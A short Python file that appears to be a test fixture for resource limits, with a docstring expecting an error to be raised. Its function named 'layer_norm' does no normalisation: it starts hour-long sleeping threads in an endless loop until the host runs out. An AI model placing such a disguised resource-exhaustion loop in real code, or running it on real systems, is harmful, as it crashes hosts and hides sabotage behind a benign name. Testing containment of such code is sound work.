"""Starts sleeping threads until no more are to be had.
Verdict: RAISED
"""

import math
import threading
import time


def layer_norm(*_, **__):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()


def norm_stat_count(shape, kind):
    if kind == "layer":
        return math.prod(shape[:-1]), (shape[-1],)
    return (shape[0] * shape[1] if kind == "instance" else shape[1]), (shape[1],)
